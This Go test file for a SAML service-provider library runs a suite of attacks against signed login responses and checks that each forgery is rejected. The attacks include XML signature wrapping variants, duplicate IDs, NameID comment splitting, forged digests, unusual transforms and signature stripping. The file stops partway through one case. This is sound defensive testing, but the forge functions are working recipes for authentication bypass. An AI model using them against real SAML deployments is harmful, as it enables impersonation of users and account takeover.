package sp_test

// The attack suite: every recipe of the SAML attack catalog (../shared/research/attacks.md,
// cited as #n) that applies to an ACS endpoint, applied to a freshly signed Entra-shaped
// response. Each case has a control that shows the attack is real — the unmutated response
// is accepted by the same SP, and, where the attack needs it, the forged document is still
// cryptographically sound (goxmldsig or xmlsec1 verify the part the attacker kept) — so
// a rejection cannot pass for the wrong reason. Each rejection must carry the expected
// sentinel, a precise admin-facing message, and only the generic end-user message.

import (
	"bytes"
	"context"
	"crypto/hmac"
	"crypto/sha256"
	"encoding/base64"
	"errors"
	"fmt"
	"runtime"
	"strings"
	"testing"
	"time"

	"github.com/beevik/etree"

	"github.com/ssokit/saml/assertion"
	"github.com/ssokit/saml/internal/samltest"
	"github.com/ssokit/saml/sp"
	"github.com/ssokit/saml/sp/web"
)

// Attacker-chosen values. None of them may reach the end user's message.
const (
	victim   = "ceo@contoso.example"
	evilID   = "_evil0000-0000-0000-0000-000000000000"
	evilURL  = "https://evil.example/acs"
	evilNS   = "urn:evil"
	mallory  = "mallory@contoso.example"
	otherReq = "id0ther00000000000000000000000000000"
)

var (
	nsSAML  = samltest.NSAssertion
	nsProto = samltest.NSProtocol
	nsDSig  = samltest.NSDSig
)

// attackConfig is the SP every case runs against: the default test IdP, the fixed clock.
func attackConfig() sp.Config {
	s := samltest.DefaultSP()
	return sp.Config{
		EntityID: s.EntityID,
		ACSURL:   s.ACSURL,
		IdP:      samltest.DefaultIdP().Metadata(),
		Now:      samltest.Clock,
		Key:      s.KeyPair(),
	}
}

func attackSP(tb testing.TB, cfg sp.Config) *sp.SP {
	tb.Helper()
	s, err := sp.New(cfg)
	if err != nil {
		tb.Fatalf("sp.New: %v", err)
	}
	return s
}

// attack is one row of the suite.
type attack struct {
	name    string
	catalog string // catalog entries, e.g. "#3"

	sign samltest.Placement
	by   func() *samltest.IdP      // who signs; nil: the trusted IdP
	opts func(o *samltest.Options) // what the (signing) IdP writes
	// forge edits the signed document, as an attacker holding it would.
	forge func(t *testing.T, doc *etree.Document)
	// raw edits the serialized bytes (for what a tree cannot express).
	raw func(xml []byte) []byte
	// form builds the posted value from the bytes; nil: base64.
	form func(xml []byte) string
	cfg  func(c *sp.Config)
	at   time.Time // the SP's clock for the attack; zero: samltest.Now
	// requestIDs outstanding for this browser; nil: samltest.RequestID.
	requestIDs []string

	// want lists the sentinels a rejection may carry: more than one only where the
	// pipeline may legitimately trip on a shape check or on the signature profile first.
	want []error
	// accept, when set, also allows acceptance, provided the assertion returned passes it
	// (e.g. a comment-split NameID accepted only with its full value).
	accept func(a *assertion.Assertion) error
	// control shows, on the exact posted document, that the attack is real.
	control func(t *testing.T, posted *etree.Document)
	// detail must appear in err.Error(): the admin learns what arrived.
	detail []string
	// noBaseline skips the "same SP accepts the unforged response" control, for cases
	// whose config alone already rules out every response (they say why).
	noBaseline bool
}

func (c attack) build(t *testing.T) []byte {
	t.Helper()
	o := samltest.Options{Sign: c.sign}
	if c.opts != nil {
		c.opts(&o)
	}
	signer := samltest.DefaultIdP()
	if c.by != nil {
		signer = c.by()
	}
	doc, err := signer.ResponseDoc(o)
	if err != nil {
		t.Fatalf("build: %v", err)
	}
	if c.forge != nil {
		c.forge(t, doc)
	}
	b := samltest.Serialize(doc)
	if c.raw != nil {
		b = c.raw(b)
	}
	return b
}

func (c attack) attackConfig() sp.Config {
	cfg := attackConfig()
	if c.cfg != nil {
		c.cfg(&cfg)
	}
	return cfg
}

func (c attack) ids() []string {
	if c.requestIDs == nil {
		return []string{samltest.RequestID}
	}
	return c.requestIDs
}

// noRequests marks an attack posted by a browser with no outstanding AuthnRequest.
var noRequests = []string{}

func TestAttacks(t *testing.T) {
	cases := attacks()
	if len(cases) < 40 {
		t.Fatalf("the suite has %d cases, the issue asks for at least 40", len(cases))
	}
	seen := map[string]bool{}
	for _, c := range cases {
		if seen[c.name] {
			t.Fatalf("duplicate case name %q", c.name)
		}
		seen[c.name] = true
		if c.noBaseline && c.control == nil {
			t.Fatalf("%q has neither the baseline nor an explicit control", c.name)
		}
		t.Run(c.name, func(t *testing.T) { runAttack(t, c) })
	}
}

func runAttack(t *testing.T, c attack) {
	ctx := context.Background()
	if !c.noBaseline {
		// Control: the same SP accepts the unforged response with the same placement.
		good := samltest.DefaultIdP().MustResponse(t, samltest.Options{Sign: c.sign})
		if _, err := attackSP(t, c.attackConfig()).ValidateResponse(ctx, samltest.Encode(good), c.ids()...); err != nil {
			t.Fatalf("control: the unforged %s-signed response is rejected, so this case proves nothing: %v", c.sign, err)
		}
	}
	posted := c.build(t)
	if c.control != nil {
		doc, err := samltest.Parse(posted)
		if err != nil {
			t.Fatalf("control: the forged document does not even parse: %v", err)
		}
		c.control(t, doc)
	}
	form := samltest.Encode(posted)
	if c.form != nil {
		form = c.form(posted)
	}
	cfg := c.attackConfig()
	if !c.at.IsZero() {
		at := c.at
		cfg.Now = func() time.Time { return at }
	}
	got, err := attackSP(t, cfg).ValidateResponse(ctx, form, c.ids()...)
	if err == nil {
		if c.accept == nil {
			t.Fatalf("accepted (NameID %q): want %v", got.NameID.Value, c.want)
		}
		if aerr := c.accept(got); aerr != nil {
			t.Fatalf("accepted with a wrong value: %v", aerr)
		}
		return
	}
	checkRejection(t, err, c.want, c.detail)
}

// checkRejection asserts the sentinel, the precise admin message and the generic user
// message of a rejection.
func checkRejection(t *testing.T, err error, want []error, detail []string) {
	t.Helper()
	ok := false
	for _, w := range want {
		ok = ok || errors.Is(err, w)
	}
	if !ok {
		t.Fatalf("rejected for the wrong reason: %v\nwant one of %v", err, want)
	}
	var e *sp.Error
	if !errors.As(err, &e) || e.Check == "" {
		t.Errorf("error is not an *sp.Error naming its check: %#v", err)
	}
	msg := err.Error()
	for _, d := range detail {
		if !strings.Contains(msg, d) {
			t.Errorf("admin message does not say %q: %s", d, msg)
		}
	}
	user := sp.UserMessage(err)
	if user == "" || user == msg {
		t.Errorf("user message %q is empty or the admin message", user)
	}
	generic := sp.UserMessage(errors.New("x"))
	if !errors.Is(err, sp.ErrStatus) && user != generic {
		// INV-8 (#46): every failure looks the same from outside.
		t.Errorf("user message differs between failures (an oracle): %q vs %q", user, generic)
	}
	for _, leak := range []string{victim, evilID, evilURL, evilNS, mallory, otherReq, samltest.SPEntityID,
		samltest.ACSURL, samltest.TenantID, samltest.OtherTenantID, "AADSTS", "<"} {
		if strings.Contains(user, leak) {
			t.Errorf("user message leaks %q: %s", leak, user)
		}
	}
}

// --- helpers that forge -------------------------------------------------------------

func assertionOf(t *testing.T, doc *etree.Document) *etree.Element {
	t.Helper()
	a := samltest.AssertionOf(doc)
	if a == nil {
		t.Fatal("no assertion")
	}
	return a
}

func setNameID(a *etree.Element, v string) { samltest.NameIDOf(a).SetText(v) }

// evilCopy is a signature-less copy of a with a new ID and the victim's NameID.
func evilCopy(a *etree.Element, id string) *etree.Element {
	c := samltest.Copy(a)
	samltest.RemoveSignature(c)
	c.CreateAttr("ID", id)
	setNameID(c, victim)
	return c
}

func foreignEl(tag, xmlns string) *etree.Element {
	e := etree.NewElement(tag)
	if xmlns != "" {
		e.CreateAttr("xmlns", xmlns)
	}
	return e
}

func protoEl(local string) *etree.Element {
	e := etree.NewElement("samlp:" + local)
	return e // the samlp prefix is declared on the Response root
}

func statusOf(doc *etree.Document) *etree.Element {
	return samltest.Child(doc.Root(), nsProto, "Status")
}

func flipSignatureValue(sig *etree.Element) {
	sv := samltest.Child(sig, nsDSig, "SignatureValue")
	b, _ := base64.StdEncoding.DecodeString(sv.Text())
	b[len(b)/2] ^= 1
	sv.SetText(base64.StdEncoding.EncodeToString(b))
}

func replaceOnce(old, new string) func([]byte) []byte {
	return func(b []byte) []byte { return bytes.Replace(b, []byte(old), []byte(new), 1) }
}

// --- controls ---------------------------------------------------------------------

// verifies: the element found by pick still verifies with goxmldsig and the trusted cert.
func verifies(pick func(doc *etree.Document) *etree.Element) func(*testing.T, *etree.Document) {
	return func(t *testing.T, doc *etree.Document) {
		t.Helper()
		el := pick(doc)
		if el == nil {
			t.Fatal("control: nothing to verify")
		}
		if _, err := samltest.Verify(el, samltest.Now, samltest.DefaultIdP().Cert); err != nil {
			t.Fatalf("control: the signed part should still verify on its own: %v", err)
		}
	}
}

var (
	theAssertion = func(doc *etree.Document) *etree.Element { return samltest.AssertionOf(doc) }
	theResponse  = func(doc *etree.Document) *etree.Element { return doc.Root() }
)

// referenceHolds: the signature found by pick still verifies over whatever element its
// Reference now resolves to (document-wide, first match) — the wrapping attack's premise.
func referenceHolds(pick func(doc *etree.Document) *etree.Element) func(*testing.T, *etree.Document) {
	return func(t *testing.T, doc *etree.Document) {
		t.Helper()
		sig := pick(doc)
		if sig == nil {
			t.Fatal("control: no signature")
		}
		if _, err := samltest.VerifyReference(doc, sig, samltest.Now, samltest.DefaultIdP().Cert); err != nil {
			t.Fatalf("control: the moved signature should still verify over its referenced element: %v", err)
		}
	}
}

// xmlsecValid: a pure XML-DSig verifier (xmlsec1) calls the forged document valid.
func xmlsecValid(startID string) func(*testing.T, *etree.Document) {
	return func(t *testing.T, doc *etree.Document) {
		t.Helper()
		ok, out, err := samltest.XMLSec1(samltest.Serialize(doc), samltest.DefaultIdP().Cert, startID)
		if err != nil {
			t.Logf("control via xmlsec1 not run (%v): apt-get install xmlsec1", err)
			return
		}
		if !ok {
			t.Fatalf("control: xmlsec1 should call the forged document valid:\n%s", out)
		}
	}
}

func allOf(cs ...func(*testing.T, *etree.Document)) func(*testing.T, *etree.Document) {
	return func(t *testing.T, doc *etree.Document) {
		t.Helper()
		for _, c := range cs {
			c(t, doc)
		}
	}
}

// signedNameID: acceptance is allowed only with the signed user.
func signedNameID(want string) func(a *assertion.Assertion) error {
	return func(a *assertion.Assertion) error {
		if a.NameID.Value != want {
			return fmt.Errorf("NameID %q, the signed value is %q", a.NameID.Value, want)
		}
		return nil
	}
}

var (
	errSig       = []error{sp.ErrSignature}
	errMalformed = []error{sp.ErrMalformed}
)

func idFor(name string) string { return samltest.ID("attack " + name) }

func attacks() []attack {
	aid := samltest.ID("assertion")
	rid := samltest.ID("response")
	idp := samltest.DefaultIdP()
	sigOfAssertion := func(doc *etree.Document) *etree.Element {
		return samltest.SignatureOf(samltest.AssertionOf(doc))
	}
	sigOfResponse := func(doc *etree.Document) *etree.Element { return samltest.SignatureOf(doc.Root()) }
	extensions := func(doc *etree.Document) *etree.Element {
		ext := protoEl("Extensions")
		samltest.InsertAfter(statusOf(doc), ext)
		return ext
	}
	fullSplit := "ceo@contoso.example.evil.example"
	ourCertAndOther := func(c *sp.Config) {
		c.IdP.Certificates = append(c.IdP.Certificates, samltest.OtherTenantIdP().Cert)
	}

	return []attack{
		// ---- A. Signature wrapping ------------------------------------------------
		{
			name: "XSW1 response copy hidden inside its own signature", catalog: "#1", sign: samltest.SignResponse,
			forge: func(t *testing.T, doc *etree.Document) {
				resp := doc.Root()
				cp := samltest.Copy(resp)
				samltest.RemoveSignature(cp)
				samltest.Append(samltest.SignatureOf(resp), cp)
				resp.CreateAttr("ID", evilID)
				setNameID(assertionOf(t, doc), victim)
			},
			control: referenceHolds(sigOfResponse), want: errMalformed,
		},
		{
			name: "XSW1 with both signed: outer assertion unsigned and edited", catalog: "#1", sign: samltest.SignBoth,
			forge: func(t *testing.T, doc *etree.Document) {
				resp := doc.Root()
				cp := samltest.Copy(resp)
				samltest.RemoveSignature(cp)
				samltest.Append(samltest.SignatureOf(resp), cp)
				resp.CreateAttr("ID", evilID)
				a := assertionOf(t, doc)
				samltest.RemoveSignature(a)
				a.CreateAttr("ID", idFor("xsw1ra"))
				setNameID(a, victim)
			},
			control: referenceHolds(sigOfResponse), want: errMalformed,
		},
		{
			name: "XSW2 response copy as detached sibling of the signature", catalog: "#2", sign: samltest.SignResponse,
			forge: func(t *testing.T, doc *etree.Document) {
				resp := doc.Root()
				cp := samltest.Copy(resp)
				samltest.RemoveSignature(cp)
				samltest.InsertBefore(samltest.SignatureOf(resp), cp)
				resp.CreateAttr("ID", evilID)
				setNameID(assertionOf(t, doc), victim)
			},
			control: referenceHolds(sigOfResponse), want: errMalformed,
		},
		{
			name: "XSW3 unsigned evil assertion before the signed one", catalog: "#3,#9",
			forge: func(t *testing.T, doc *etree.Document) {
				a := assertionOf(t, doc)
				samltest.InsertBefore(a, evilCopy(a, evilID))
			},
			control: allOf(xmlsecValid(aid), verifies(func(doc *etree.Document) *etree.Element {
				return samltest.FindID(doc.Root(), aid)
			})),
			want: errMalformed,
		},
		{
			name: "XSW3 against a signed response: inserted assertion breaks its digest", catalog: "#3", sign: samltest.SignResponse,
			forge: func(t *testing.T, doc *etree.Document) {
				a := assertionOf(t, doc)
				samltest.InsertBefore(a, evilCopy(a, evilID))
			},
			want: errMalformed,
		},
		{
			name: "XSW4 evil assertion wraps the signed one", catalog: "#4",
			forge: func(t *testing.T, doc *etree.Document) {
				a := assertionOf(t, doc)
				evil := evilCopy(a, evilID)
				samltest.Detach(a)
				samltest.Append(evil, a)
				samltest.Append(doc.Root(), evil)
			},
			control: allOf(xmlsecValid(aid), referenceHolds(func(doc *etree.Document) *etree.Element {
				return samltest.SignatureOf(samltest.FindID(doc.Root(), aid))
			})),
			want: errMalformed,
		},
		{
			name: "XSW5 signed assertion edited in place, pristine copy appended", catalog: "#5",
			forge: func(t *testing.T, doc *etree.Document) {
				a := assertionOf(t, doc)
				pristine := samltest.Copy(a)
				samltest.RemoveSignature(pristine)
				a.CreateAttr("ID", evilID)
				setNameID(a, victim)
				samltest.Append(doc.Root(), pristine)
			},
			control: allOf(xmlsecValid(evilID), referenceHolds(sigOfAssertion)), want: errMalformed,
		},
		{
			name: "XSW6 pristine copy hidden inside the evil assertion's signature", catalog: "#6",
			forge: func(t *testing.T, doc *etree.Document) {
				a := assertionOf(t, doc)
				pristine := samltest.Copy(a)
				samltest.RemoveSignature(pristine)
				a.CreateAttr("ID", evilID)
				setNameID(a, victim)
				samltest.Append(samltest.SignatureOf(a), pristine)
			},
			control: referenceHolds(sigOfAssertion), want: errMalformed,
		},
		{
			name: "XSW7 evil assertion in samlp:Extensions before the signed one", catalog: "#7",
			forge: func(t *testing.T, doc *etree.Document) {
				a := assertionOf(t, doc)
				samltest.Append(extensions(doc), evilCopy(a, evilID))
			},
			control: allOf(verifies(theAssertion), func(t *testing.T, doc *etree.Document) {
				// A document-order reader finds the evil NameID first.
				if n := samltest.Find(doc.Root(), nsSAML, "NameID"); n.Text() != victim {
					t.Fatalf("control: naive reader gets %q", n.Text())
				}
			}),
			want: errMalformed, accept: signedNameID(samltest.UserEmail),
		},
		{
			name: "XSW7 evil assertion in StatusDetail", catalog: "#7,#40",
			forge: func(t *testing.T, doc *etree.Document) {
				a := assertionOf(t, doc)
				d := protoEl("StatusDetail")
				samltest.Append(statusOf(doc), d)
				samltest.Append(d, evilCopy(a, evilID))
			},
			control: verifies(theAssertion), want: errMalformed, accept: signedNameID(samltest.UserEmail),
		},
		{
			name: "XSW8 pristine copy in ds:Object, signed assertion edited in place", catalog: "#8",
			forge: func(t *testing.T, doc *etree.Document) {
				a := assertionOf(t, doc)
				pristine := samltest.Copy(a)
				samltest.RemoveSignature(pristine)
				setNameID(a, victim)
				obj := etree.NewElement("Object") // default namespace of Signature: xmldsig
				samltest.Append(obj, pristine)
				samltest.Append(samltest.SignatureOf(a), obj)
			},
			control: func(t *testing.T, doc *etree.Document) {
				sig := samltest.SignatureOf(samltest.AssertionOf(doc))
				hidden := samltest.Find(samltest.Child(sig, nsDSig, "Object"), nsSAML, "Assertion")
				if _, err := samltest.VerifyOver(hidden, sig, samltest.Now, samltest.DefaultIdP().Cert); err != nil {
					t.Fatalf("control: the hidden copy should carry the signature: %v", err)
				}
			},
			want: errMalformed,
		},
		{
			name: "XSW8 pristine response copy in ds:Object of the response signature", catalog: "#8,#1", sign: samltest.SignResponse,
			forge: func(t *testing.T, doc *etree.Document) {
				resp := doc.Root()
				pristine := samltest.Copy(resp)
				samltest.RemoveSignature(pristine)
				setNameID(assertionOf(t, doc), victim)
				obj := etree.NewElement("Object")
				samltest.Append(obj, pristine)
				samltest.Append(samltest.SignatureOf(resp), obj)
			},
			control: func(t *testing.T, doc *etree.Document) {
				sig := samltest.SignatureOf(doc.Root())
				hidden := samltest.Find(samltest.Child(sig, nsDSig, "Object"), nsProto, "Response")
				if _, err := samltest.VerifyOver(hidden, sig, samltest.Now, samltest.DefaultIdP().Cert); err != nil {
					t.Fatalf("control: the hidden copy should carry the signature: %v", err)
				}
			},
			want: errMalformed,
		},

		// ---- Multiple assertions, moved signatures, IDs -----------------------------
		{
			name: "second unsigned assertion appended after the signed one", catalog: "#9",
			forge: func(t *testing.T, doc *etree.Document) {
				a := assertionOf(t, doc)
				samltest.Append(doc.Root(), evilCopy(a, evilID))
			},
			control: allOf(xmlsecValid(aid), verifies(theAssertion)), want: errMalformed,
		},
		{
			name: "second independently signed assertion (the attacker's own login)", catalog: "#9",
			forge: func(t *testing.T, doc *etree.Document) {
				other, err := samltest.DefaultIdP().ResponseDoc(samltest.Options{AssertionID: idFor("mallory"), NameID: mallory})
				if err != nil {
					t.Fatal(err)
				}
				samltest.InsertBefore(assertionOf(t, doc), samltest.Copy(samltest.AssertionOf(other)))
			},
			control: func(t *testing.T, doc *etree.Document) {
				for _, a := range samltest.Children(doc.Root(), nsSAML, "Assertion") {
					if _, err := samltest.Verify(a, samltest.Now, samltest.DefaultIdP().Cert); err != nil {
						t.Fatalf("control: both assertions should verify: %v", err)
					}
				}
			},
			want: errMalformed,
		},
		{
			name: "assertion plus an attacker-made EncryptedAssertion", catalog: "#9,#28",
			forge: func(t *testing.T, doc *etree.Document) {
				a := assertionOf(t, doc)
				evil := evilCopy(a, evilID)
				samltest.Append(doc.Root(), evil)
				if err := samltest.Encrypt(evil, samltest.DefaultSP().Cert); err != nil {
					t.Fatal(err)
				}
			},
			control: verifies(theAssertion), want: errMalformed,
		},
		{
			name: "signature transplanted into an evil assertion, original wrapped in a foreign element", catalog: "#10",
			forge: func(t *testing.T, doc *etree.Document) {
				a := assertionOf(t, doc)
				sig := samltest.Detach(samltest.SignatureOf(a))
				evil := evilCopy(a, evilID)
				samltest.InsertBefore(a, evil)
				evil.InsertChildAt(samltest.Child(evil, nsSAML, "Issuer").Index()+1, sig)
				samltest.Wrap(a, "foo", "urn:foo")
			},
			control: referenceHolds(func(doc *etree.Document) *etree.Element {
				return samltest.SignatureOf(samltest.FindID(doc.Root(), evilID))
			}),
			want: errMalformed,
		},
		{
			name: "assertion signature relocated into Subject (digest-neutral)", catalog: "#11",
			forge: func(t *testing.T, doc *etree.Document) {
				a := assertionOf(t, doc)
				sig := samltest.Detach(samltest.SignatureOf(a))
				samltest.Append(samltest.Child(a, nsSAML, "Subject"), sig)
			},
			control: verifies(theAssertion), want: errSig,
		},
		{
			name: "response signature relocated below Status (digest-neutral)", catalog: "#11", sign: samltest.SignResponse,
			forge: func(t *testing.T, doc *etree.Document) {
				sig := samltest.Detach(samltest.SignatureOf(doc.Root()))
				samltest.InsertAfter(statusOf(doc), sig)
			},
			control: verifies(theResponse), want: errSig,
		},
		{
			name: "duplicate ID: evil assertion with the signed assertion's ID comes first", catalog: "#12",
			forge: func(t *testing.T, doc *etree.Document) {
				a := assertionOf(t, doc)
				samltest.InsertBefore(a, evilCopy(a, aid))
			},
			control: verifies(func(doc *etree.Document) *etree.Element {
				return samltest.Children(doc.Root(), nsSAML, "Assertion")[1]
			}),
			want: errMalformed,
		},
		{
			name: "duplicate ID: Status decoy carries the assertion's ID", catalog: "#12",
			forge: func(t *testing.T, doc *etree.Document) {
				statusOf(doc).CreateAttr("ID", aid)
			},
			control: verifies(theAssertion), want: errMalformed,
		},
		{
			name: "duplicate ID: response and assertion share one ID", catalog: "#12",
			opts: func(o *samltest.Options) { o.ResponseID = samltest.ID("assertion") },
			want: errMalformed,
		},
		{
			name: "IdP-signed gadget (metadata) beside an unsigned forged assertion", catalog: "#13",
			forge: func(t *testing.T, doc *etree.Document) {
				a := assertionOf(t, doc)
				samltest.RemoveSignature(a)
				setNameID(a, victim)
				md := foreignEl("EntityDescriptor", "urn:oasis:names:tc:SAML:2.0:metadata")
				md.CreateAttr("ID", idFor("metadata"))
				md.CreateAttr("entityID", samltest.DefaultIdP().EntityID)
				samltest.Append(doc.Root(), md)
				if err := samltest.DefaultIdP().SignSpec(md, samltest.Spec{}); err != nil {
					t.Fatal(err)
				}
			},
			control: verifies(func(doc *etree.Document) *etree.Element {
				return samltest.Child(doc.Root(), "urn:oasis:names:tc:SAML:2.0:metadata", "EntityDescriptor")
			}),
			want: errSig,
		},

		// ---- B. Signature processing ------------------------------------------------
		{
			name: "comment-split NameID: accept only the full value", catalog: "#14",
			opts: func(o *samltest.Options) { o.NameID = fullSplit },
			forge: func(t *testing.T, doc *etree.Document) {
				n := samltest.NameIDOf(assertionOf(t, doc))
				n.SetText("ceo@contoso.example")
				n.CreateComment("")
				n.CreateText(".evil.example")
			},
			control: allOf(xmlsecValid(aid), verifies(theAssertion)),
			want:    errMalformed, accept: signedNameID(fullSplit),
		},
		{
			name: "CDATA-split NameID: accept only the full value", catalog: "#14",
			opts: func(o *samltest.Options) { o.NameID = fullSplit },
			forge: func(t *testing.T, doc *etree.Document) {
				n := samltest.NameIDOf(assertionOf(t, doc))
				n.SetText("ceo@contoso.example")
				n.CreateCData(".evil.example")
			},
			control: allOf(xmlsecValid(aid), verifies(theAssertion)),
			want:    errMalformed, accept: signedNameID(fullSplit),
		},
		{
			name: "character reference in NameID: accept only the full value", catalog: "#14",
			opts:    func(o *samltest.Options) { o.NameID = fullSplit },
			raw:     replaceOnce(">ceo@contoso.example.evil.example</NameID>", ">ceo&#64;contoso.example<!---->.evil.example</NameID>"),
			control: verifies(theAssertion),
			want:    errMalformed, accept: signedNameID(fullSplit),
		},
		{
			name: "processing instruction inside a signed NameID", catalog: "#14",
			opts: func(o *samltest.Options) {
				o.NameID = fullSplit
				o.EditAssertion = func(a *etree.Element) {
					n := samltest.NameIDOf(a)
					n.SetText("ceo@contoso.example")
					n.CreateProcInst("x", "")
					n.CreateText(".evil.example")
				}
			},
			control: verifies(theAssertion),
			want:    errMalformed, accept: signedNameID(fullSplit),
		},
		{
			name: "comment inside DigestValue carrying the forged digest", catalog: "#15",
			forge: func(t *testing.T, doc *etree.Document) {
				a := assertionOf(t, doc)
				setNameID(a, victim)
				dv := samltest.Find(samltest.SignatureOf(a), nsDSig, "DigestValue")
				orig := dv.Text()
				dv.SetText("")
				dv.CreateComment(samltest.Digest(a))
				dv.CreateText(orig)
			},
			control: func(t *testing.T, doc *etree.Document) {
				// The comment-laden SignedInfo still verifies over the original assertion.
				forged := samltest.AssertionOf(doc)
				orig := samltest.Copy(forged)
				setNameID(orig, samltest.UserEmail)
				if _, err := samltest.VerifyOver(orig, samltest.SignatureOf(forged), samltest.Now, samltest.DefaultIdP().Cert); err != nil {
					t.Fatalf("control: %v", err)
				}
			},
			want: errSig,
		},
		{
			name: "second SignedInfo with the forged digest", catalog: "#15",
			forge: func(t *testing.T, doc *etree.Document) {
				a := assertionOf(t, doc)
				setNameID(a, victim)
				sig := samltest.SignatureOf(a)
				si := samltest.Child(sig, nsDSig, "SignedInfo")
				forged := samltest.Copy(si)
				samltest.Find(forged, nsDSig, "DigestValue").SetText(samltest.Digest(a))
				samltest.InsertAfter(si, forged)
			},
			want: errSig,
		},
		{
			name: "forged Reference and DigestValue placed in Extensions", catalog: "#15",
			forge: func(t *testing.T, doc *etree.Document) {
				a := assertionOf(t, doc)
				setNameID(a, victim)
				ref := samltest.Copy(samltest.Find(samltest.SignatureOf(a), nsDSig, "Reference"))
				samltest.Find(ref, nsDSig, "DigestValue").SetText(samltest.Digest(a))
				samltest.Append(extensions(doc), ref)
			},
			want: errSig,
		},
		{
			name: "Reference URI empty (whole document)", catalog: "#16",
			forge:   resignAssertion(samltest.Spec{References: []string{""}}),
			control: verifies(theAssertion), want: errSig,
		},
		{
			name: "Reference URI names an absent ID", catalog: "#16",
			forge: resignAssertion(samltest.Spec{References: []string{"#_absent"}}),
			want:  errSig,
		},
		{
			name: "Reference URI in XPointer form", catalog: "#16",
			forge: resignAssertion(samltest.Spec{References: []string{"#xpointer(id('" + aid + "'))"}}),
			want:  errSig,
		},
		{
			name: "two References: the assertion and the response", catalog: "#16",
			forge:   resignAssertion(samltest.Spec{References: []string{"#" + aid, "#" + rid}}),
			control: verifies(theAssertion), want: errSig,
		},
		{
			name: "assertion's signature references the response instead", catalog: "#16",
			forge:   resignAssertion(samltest.Spec{References: []string{"#" + rid}}),
			control: referenceHolds(sigOfAssertion), want: errSig,
		},
		{
			name: "XSLT transform", catalog: "#17",
			forge: resignAssertion(samltest.Spec{
				Transforms:    []string{samltest.AlgEnveloped, samltest.AlgXSLT, samltest.AlgExcC14N},
				TransformBody: `<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0"/>`,
			}),
			want: errSig,
		},
		{
			name: "XPath transform", catalog: "#17",
			forge: resignAssertion(samltest.Spec{
				Transforms:    []string{samltest.AlgEnveloped, samltest.AlgXPath, samltest.AlgExcC14N},
				TransformBody: "not(ancestor-or-self::*)",
			}),
			want: errSig,
		},
		{
			name: "inclusive C14N 1.1 transform, validly signed", catalog: "#17",
			forge:   resignAssertion(samltest.Spec{Transforms: []string{samltest.AlgEnveloped, samltest.AlgC14N11}}),
			control: verifies(theAssertion), want: errSig,
		},
		{
			name: "exclusive C14N WithComments transform, validly signed", catalog: "#17,#14",
			forge:   resignAssertion(samltest.Spec{Transforms: []string{samltest.AlgEnveloped, samltest.AlgExcC14NComments}}),
			control: verifies(theAssertion), want: errSig,
		},
		{
			name: "SignedInfo canonicalized with inclusive C14N, validly signed", catalog: "#17",
			forge:   resignAssertion(samltest.Spec{C14NMethod: samltest.AlgC14N11}),
			control: verifies(theAssertion), want: errSig,
		},
		{
			name: "enveloped-signature transform missing", catalog: "#17",
			forge: resignAssertion(samltest.Spec{Transforms: []string{samltest.AlgExcC14N}}),
			want:  errSig,
		},
		{
			name: "three transforms, validly signed", catalog: "#17",
			forge:   resignAssertion(samltest.Spec{Transforms: []string{samltest.AlgEnveloped, samltest.AlgExcC14N, samltest.AlgExcC14N}}),
			control: verifies(theAssertion), want: errSig,
		},
		{
			name: "every signature removed and the assertion edited", catalog: "#18", sign: samltest.SignBoth,
			forge: func(t *testing.T, doc *etree.Document) {
				samltest.RemoveSignature(doc.Root())
				a := assertionOf(t, doc)
				samltest.RemoveSignature(a)
				setNameID(a, victim)
			},
			want: errSig,
		},
		{
			name: "response signature removed while the SP requires it", catalog: "#18", sign: samltest.SignBoth,
			cfg:   func(c *sp.Config) { c.RequireSignedResponse = true },
			forge: func(t *testing.T, doc *etree.Document) { samltest.RemoveSignature(doc.Root()) },
			control: func(t *testing.T, doc *etree.Document) {
				// The same document is fine for an SP that only needs the assertion signed.
				if _, err := attackSP(t, attackConfig()).ValidateResponse(context.Background(), samltest.Encode(samltest.Serialize(doc)), samltest.RequestID); err != nil {
					t.Fatalf("control: %v", err)
				}
			},
			want: errSig,
		},
		{
			name: "response-only signed while the SP requires a signed assertion", catalog: "#18", sign: samltest.SignResponse,
			cfg:        func(c *sp.Config) { c.RequireSignedAssertion = true },
			noBaseline: true, // this SP accepts no response-only document at all; the control shows the document is good
			control: func(t *testing.T, doc *etree.Document) {
				if _, err := attackSP(t, attackConfig()).ValidateResponse(context.Background(), samltest.Encode(samltest.Serialize(doc)), samltest.RequestID); err != nil {
					t.Fatalf("control: %v", err)
				}
			},
			want: errSig,
		},
		{
			name: "assertion-only signed while the SP requires a signed response", catalog: "#18",
			cfg:        func(c *sp.Config) { c.RequireSignedResponse = true },
			noBaseline: true, // as above
			control: func(t *testing.T, doc *etree.Document) {
				if _, err := attackSP(t, attackConfig()).ValidateResponse(context.Background(), samltest.Encode(samltest.Serialize(doc)), samltest.RequestID); err != nil {
					t.Fatalf("control: %v", err)
				}
			},
			want: errSig,
		},
		{
			name: "response signature corrupted, assertion signature intact", catalog: "#18", sign: samltest.SignBoth,
			forge:   func(t *testing.T, doc *etree.Document) { flipSignatureValue(samltest.SignatureOf(doc.Root())) },
			control: verifies(theAssertion), want: errSig,
		},
		{
			name: "signature without SignedInfo", catalog: "#19",
			forge: func(t *testing.T, doc *etree.Document) {
				sig := samltest.SignatureOf(assertionOf(t, doc))
				sig.RemoveChild(samltest.Child(sig, nsDSig, "SignedInfo"))
			},
			want: errSig,
		},
		{
			name: "empty SignatureValue and empty X509Certificate", catalog: "#19",
			forge: func(t *testing.T, doc *etree.Document) {
				sig := samltest.SignatureOf(assertionOf(t, doc))
				samltest.Child(sig, nsDSig, "SignatureValue").SetText("")
				samltest.Find(sig, nsDSig, "X509Certificate").SetText("")
			},
			want: errSig,
		},
		{
			name: "DigestValue is not base64", catalog: "#19",
			forge: func(t *testing.T, doc *etree.Document) {
				samltest.Find(samltest.SignatureOf(assertionOf(t, doc)), nsDSig, "DigestValue").SetText("!!not base64!!")
			},
			want: errSig,
		},
		{
			name: "RSA-SHA1 without the SHA-1 opt-in", catalog: "#20",
			opts: func(o *samltest.Options) { o.Algorithm = samltest.SHA1 },
			control: func(t *testing.T, doc *etree.Document) {
				verifies(theAssertion)(t, doc)
				cfg := attackConfig()
				cfg.InsecureAllowSHA1 = true
				if _, err := attackSP(t, cfg).ValidateResponse(context.Background(), samltest.Encode(samltest.Serialize(doc)), samltest.RequestID); err != nil {
					t.Fatalf("control: with InsecureAllowSHA1 the document is accepted: %v", err)
				}
			},
			want: errSig, detail: []string{"sha1"},
		},
		{
			name: "HMAC-SHA256 keyed with the IdP's public certificate", catalog: "#20",
			forge: func(t *testing.T, doc *etree.Document) {
